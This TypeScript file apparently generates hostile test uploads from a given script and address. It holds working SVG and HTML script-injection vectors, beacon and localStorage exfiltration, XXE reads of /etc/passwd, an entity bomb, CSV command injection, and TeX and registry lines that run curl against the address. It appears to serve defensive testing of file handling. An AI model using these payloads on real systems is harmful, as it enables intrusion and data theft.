import { hostile } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`

const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** Drawings that come to their script, or to an address elsewhere, by ways that a filter for the plain ones passes over. */
export function hiddenDrawings({ script, address }: Payload): readonly HostileFile[] {
  const entity = Array.from(script, (letter) => `&#38;#${letter.codePointAt(0)};`).join('')
  const drawings: readonly (readonly [string, string])[] = [
    ['script of data', svg(`<script href="data:text/javascript;base64,${base64(script)}"/>`)],
    ['script module', svg(`<script type="module">${script}</script>`)],
    ['prefixed script', `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>${script}</x:script></x:svg>`],
    ['entity script', `<!DOCTYPE svg [<!ENTITY s "${entity}">]>${svg('<script>&s;</script>')}`],
    ['default handler', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${script}">]>${svg('')}`],
    ['own handler', svg(`<image href="nothing.png" onerror="${script}" width="9" height="9"/>`)],
    ['focused', svg(`<g tabindex="0" autofocus="" onfocus="${script}"><rect width="9" height="9"/></g>`)],
    ['onend', svg(`<rect><animate attributeName="x" dur="1ms" onend="${script}"/></rect>`)],
    ['onrepeat', svg(`<rect><animate attributeName="x" dur="1ms" repeatCount="3" onrepeat="${script}"/></rect>`)],
    ['use of data', svg(`<use href="data:image/svg+xml;base64,${base64(svg(`<script>${script}</script>`))}#x"/>`)],
    ['picture of a drawing', svg(`<image href="data:image/svg+xml;base64,${base64(svg('', `onload="${script}"`))}"/>`)],
    [
      'fonts',
      svg(`<style>@font-face{font-family:f;src:url("${address}/f.woff2")}</style><text font-family="f">a</text>`),
    ],
    ['mask', svg(`<rect width="9" height="9" style="mask:url(${address}/mask.svg#m)"/>`)],
    ['clip path', svg(`<rect width="9" height="9" clip-path="url(${address}/clip.svg#c)"/>`)],
    ['cursor', svg(`<rect width="999" height="999" style="cursor:url(${address}/cursor.png),auto"/>`)],
    ['linked style', svg(`<link ${XHTML} rel="stylesheet" href="${address}/link.css"/>`)],
    ['foreign style handler', svg(`<foreignObject><style ${XHTML} onload="${script}"/></foreignObject>`)],
    [
      'foreign refresh',
      svg(`<foreignObject><meta ${XHTML} http-equiv="refresh" content="0;url=${address}/r"/></foreignObject>`),
    ],
    [
      'foreign form',
      svg(
        `<foreignObject><form ${XHTML} action="${address}/f"><input autofocus="" onfocus="${script}"/></form></foreignObject>`,
      ),
    ],
    [
      'included',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${address}/include"/></svg>`,
    ],
    ['outside grammar', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${address}/svg.dtd">${svg('')}`],
    ['parameter entity', `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${address}/p.dtd">%p;]>${svg('')}`],
    ['script in a comment', svg(`<!--><script>${script}</script>-->`)],
    ['script in a title', svg(`<title><![CDATA[</title><script>${script}</script>]]></title>`)],
    ['script in metadata', svg(`<metadata><script>${script}</script></metadata>`)],
    [
      'data link',
      svg(
        `<a href="data:text/html,${encodeURIComponent(`<script>${script}</script>`)}"><rect width="999" height="999"/></a>`,
      ),
    ],
    [
      'much to blur',
      svg(
        `<filter id="f"><feGaussianBlur stdDeviation="9999"/><feTurbulence numOctaves="99999"/></filter><rect width="99999" height="99999" filter="url(#f)"/>`,
      ),
    ],
  ]
  return drawings.map(([name, content]) => hostile(`sketch ${name}.svg`, content, 'text', 'image/svg+xml'))
}

/** Pages in which something happens by itself: no one has to press anything. */
export function handlerPages({ script, address }: Payload): readonly HostileFile[] {
  const pages: readonly (readonly [string, string])[] = [
    ['pageshow', `<body onpageshow="${script}">`],
    ['style load', `<style onload="${script}"></style>`],
    ['link load', `<link rel="stylesheet" href="data:text/css," onload="${script}">`],
    ['frame load', `<iframe srcdoc="" onload="${script}"></iframe>`],
    [
      'script error',
      `<script src="data:text/plain,x" onerror="${script}"></script><script src="/nothing" onerror="${script}"></script>`,
    ],
    ['audio error', `<audio src="data:audio/wav,x" onerror="${script}"></audio>`],
    ['source error', `<video><source src="data:video/mp4,x" onerror="${script}"></video>`],
    ['object error', `<object data="/nothing.bin" type="image/png" onerror="${script}"></object>`],
    ['button picture', `<input type="image" src="data:," onerror="${script}">`],
    [
      'animation',
      `<style>@keyframes a{to{opacity:0}}</style><p style="animation:a 1ms" onanimationend="${script}">x</p>`,
    ],
    [
      'transition',
      `<style>p{transition:opacity 1ms}@starting-style{p{opacity:0}}</style><p ontransitionend="${script}">x</p>`,
    ],
    ['marquee', `<marquee width="1" loop="1" onfinish="${script}" onstart="${script}">x</marquee>`],
    ['resized', `<body onresize="${script}"><script>dispatchEvent(new Event('resize'))</script>`],
    ['other address', `<body onhashchange="${script}"><script>location.hash='#x'</script>`],
    ['broken promise', `<body onunhandledrejection="${script}"><script>Promise.reject(1)</script>`],
    ['thrown', `<body onerror="${script}"><script>throw 1</script>`],
    ['message', `<body onmessage="${script}"><script>postMessage(1)</script>`],
    [
      'shadow',
      `<div><template shadowrootmode="open"><script>${script}</script><img src="x" onerror="${script}"></template></div>`,
    ],
    ['popover', `<div popover id="p" onbeforetoggle="${script}">x</div><script>p.showPopover()</script>`],
    ['drawing within', `<svg><animate onbegin="${script}" attributeName="x" dur="1s"></svg>`],
    [
      'mutated',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;" src="x" onerror="${script}">`,
    ],
    ['without script', `<noscript><p title="</noscript><img src=x onerror='${script}'>">`],
    ['out of a field', `<textarea></textarea><img src=x onerror="${script}"></textarea>`],
    ['half a tag', `<img src=x onerror="${script}" `],
    ['slashes', `<img/src=x/onerror="${script}"/>`],
    ['capitals', `<ScRiPt>${script}</sCrIpT>`],
    ['nested tags', `<scr<script>ipt>${script}</scr</script>ipt><script>${script}</script>`],
    ['script address', `<iframe src="java&Tab;script:${script}"></iframe>`],
    ['script action', `<form action="javascript:${script}"><button id="b">x</button></form><script>b.click()</script>`],
    ['script base', `<base href="javascript:/a/-${script}//"><a href="x" id="a">x</a><script>a.click()</script>`],
    ['data frame', `<iframe src="data:text/html,${encodeURIComponent(`<script>${script}</script>`)}"></iframe>`],
  ]
  const more: readonly (readonly [string, string])[] = [
    ['poster', `<video poster="${address}/poster.png"></video>`],
    [
      'sets of pictures',
      `<img srcset="${address}/1x.png 1x, ${address}/2x.png 2x"><picture><source srcset="${address}/s.png"><img></picture>`,
    ],
    ['background', `<body background="${address}/background.png"><table background="${address}/table.png"><td>x`],
    ['track', `<video src="data:video/mp4," autoplay><track default src="${address}/track.vtt"></video>`],
    [
      'imports',
      `<script type="importmap">{"imports":{"m":"${address}/m.js"}}</script><script type="module">import 'm'</script>`,
    ],
    [
      'preloads',
      `<link rel="modulepreload" href="${address}/mp.js"><link rel="preload" as="image" href="${address}/pl.png"><link rel="manifest" href="${address}/manifest"><link rel="icon" href="${address}/icon.png">`,
    ],
    [
      'speculation',
      `<script type="speculationrules">{"prefetch":[{"urls":["${address}/speculated"],"eagerness":"immediate"}]}</script>`,
    ],
    [
      'beacon',
      `<script>navigator.sendBeacon('${address}/beacon','x');fetch('${address}/kept',{keepalive:true,mode:'no-cors'})</script>`,
    ],
    [
      'sockets',
      `<script>new EventSource('${address}/events');new WebSocket('${address.replace('http', 'ws')}/socket')</script>`,
    ],
    [
      'worker of its own',
      `<script>navigator.serviceWorker.register('/sw.js?owned');new Worker('data:text/javascript,fetch("${address}/worker")')</script>`,
    ],
    [
      'mark of styles',
      `<style>input[value^="a"]{background:url(${address}/leak-a)}</style><input value="abc"><style>@import url(${address}/late.css) layer(x);</style>`,
    ],
    ['open end', `<img src='${address}/open?`],
    [
      'clobbers',
      `<form id="document"><input name="cookie"></form><a id="__owned"></a><img name="getElementById"><a id="Warren" href="${address}">`,
    ],
    [
      'storage',
      `<script>for(const k in localStorage)new Image().src='${address}/storage';indexedDB.databases().then(()=>{new Image().src='${address}/databases'})</script>`,
    ],
  ]
  return [...pages, ...more].map(([name, content]) => hostile(`site ${name}.html`, content, 'text'))
}

/** Markup that is no page by its name, and that something would yet carry out. */
export function otherMarkup({ script, address }: Payload): readonly HostileFile[] {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')
  const parts = [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="b"; type="text/html"',
    '',
    '--b',
    'Content-Type: text/html',
    'Content-Location: http://elsewhere.example/',
    '',
    `<script>${script}</script><img src="cid:x">`,
    '--b',
    'Content-Type: text/javascript',
    'Content-ID: <x>',
    '',
    script,
    '--b--',
  ].join('\r\n')
  const texts: readonly (readonly [string, string, string])[] = [
    [
      'site.webmanifest',
      JSON.stringify({
        name: 'Warren',
        start_url: `${address}/start`,
        scope: '/',
        icons: [{ src: `${address}/icon.png` }],
        share_target: { action: `${address}/share` },
      }),
      'application/manifest+json',
    ],
    [
      'sw.js',
      `importScripts('${address}/sw.js');onfetch=(e)=>e.respondWith(new Response('<script>${script}</script>',{headers:{'content-type':'text/html'}}))`,
      'text/javascript',
    ],
    [
      'style.css',
      `@import "${address}/a.css";@namespace url(${address}/ns);*{behavior:url(${address}/b.htc);width:expression(${script})}`,
      'text/css',
    ],
    [
      'page.xht',
      `<?xml version="1.0"?><html ${XHTML}><body><script><![CDATA[${script}]]></script></body></html>`,
      'application/xhtml+xml',
    ],
    [
      'sheet.xsl',
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${address}/x.xsl"/><xsl:template match="/"><script ${XHTML}>${script}</script></xsl:template></xsl:stylesheet>`,
      'text/xsl',
    ],
    [
      'news.rss',
      `<rss version="2.0"><channel><title>&lt;script&gt;${script}&lt;/script&gt;</title><link>javascript:${script}</link></channel></rss>`,
      'application/rss+xml',
    ],
    [
      'news.atom',
      `<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;img src=x onerror="${script}"&gt;</title><link href="${address}/atom"/></feed>`,
      'application/atom+xml',
    ],
    [
      'formula.mml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${script}"><script ${XHTML}>${script}</script></math>`,
      'application/mathml+xml',
    ],
    ['laughs.xml', `<!DOCTYPE a [<!ENTITY e0 "ha">${laughs}]><a>&e9;</a>`, 'text/xml'],
    [
      'outside.xml',
      `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${address}/xxe">]><a>&x;&y;</a>`,
      'text/xml',
    ],
    ['pages.mhtml', parts, 'multipart/related'],
    [
      'mail.eml',
      `From: a@b\r\nSubject: =?utf-8?q?<script>?=\r\nContent-Type: text/html\r\n\r\n<img src="${address}/seen.png"><script>${script}</script>`,
      'message/rfc822',
    ],
    [
      'day.ics',
      `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:javascript:${script}\r\nATTACH:${address}/attach\r\nDESCRIPTION:<script>${script}</script>\r\nEND:VEVENT\r\nEND:VCALENDAR`,
      'text/calendar',
    ],
    [
      'card.vcf',
      `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:<script>${script}</script>\r\nPHOTO:${address}/photo\r\nURL:javascript:${script}\r\nEND:VCARD`,
      'text/vcard',
    ],
    ['sums.csv', `=HYPERLINK("${address}/csv";"x"),=cmd|'/c calc'!A0,@SUM(1),+1,-1\r\n`, 'text/csv'],
    [
      'notebook.ipynb',
      JSON.stringify({
        cells: [{ cell_type: 'code', outputs: [{ data: { 'text/html': [`<script>${script}</script>`] } }] }],
      }),
      'application/json',
    ],
    [
      'list.m3u8',
      `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:1,\n${address}/segment.ts\n`,
      'application/vnd.apple.mpegurl',
    ],
    [
      'list.mpd',
      `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${address}/dash</BaseURL><Period xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${address}/period"/></MPD>`,
      'application/dash+xml',
    ],
    ['list.pls', `[playlist]\nFile1=${address}/pls\n`, 'audio/x-scpls'],
    [
      'words.vtt',
      `WEBVTT\n\nSTYLE\n::cue{background:url(${address}/cue)}\n\n00:00.000 --> 00:10.000\n<c><img src=x onerror="${script}"></c>\n`,
      'text/vtt',
    ],
    [
      'chart.mmd',
      `graph TD\nA-->B\nclick A "javascript:${script}"\nA["<img src=x onerror='${script}'>"]\n`,
      'text/plain',
    ],
    ['chart.dot', `digraph { a [URL="javascript:${script}", image="${address}/dot.png"] }`, 'text/vnd.graphviz'],
    [
      'paper.tex',
      `\\immediate\\write18{curl ${address}}\\input{/etc/passwd}\\href{javascript:${script}}{x}`,
      'text/x-tex',
    ],
    [
      'scene.gltf',
      JSON.stringify({
        asset: { version: '2.0' },
        buffers: [{ uri: `${address}/buffer.bin`, byteLength: 1 }],
        images: [{ uri: `${address}/texture.png` }],
      }),
      'model/gltf+json',
    ],
    [
      'anchors.yaml',
      `a0: &a0 [x,x]\n${Array.from({ length: 40 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i},*a${i}]`).join('\n')}\nf: !!js/function "${script}"\n`,
      'text/yaml',
    ],
    [
      'launch.jnlp',
      `<jnlp codebase="${address}" href="x.jnlp"><resources><jar href="x.jar"/></resources></jnlp>`,
      'application/x-java-jnlp-file',
    ],
    [
      'keys.reg',
      `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n"x"="curl ${address}"\r\n`,
      'text/plain',
    ],
    [
      'part.sct',
      `<scriptlet><registration progid="x"><script language="JScript"><![CDATA[${script}]]></script></registration></scriptlet>`,
      'text/scriptlet',
    ],
    [
      'shape.htc',
      `<public:component><public:attach event="ondocumentready" onevent="x()"/><script>function x(){${script}}</script></public:component>`,
      'text/x-component',
    ],
    [
      'device.mobileconfig',
      `<plist version="1.0"><dict><key>PayloadContent</key><array><dict><key>URL</key><string>${address}/config</string></dict></array></dict></plist>`,
      'application/x-apple-aspen-config',
    ],
    [
      'rich.rtf',
      `{\\rtf1{\\field{\\*\\fldinst{INCLUDEPICTURE "${address}/rtf.png"}}}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}`,
      'application/rtf',
    ],
    ['print.ps', `%!PS\n(/etc/passwd) (r) file { pop } loop\n{ } loop\n`, 'application/postscript'],
  ]
  return texts.map(([name, content, mimeType]) => hostile(`markup ${name}`, content, 'text', mimeType))
}
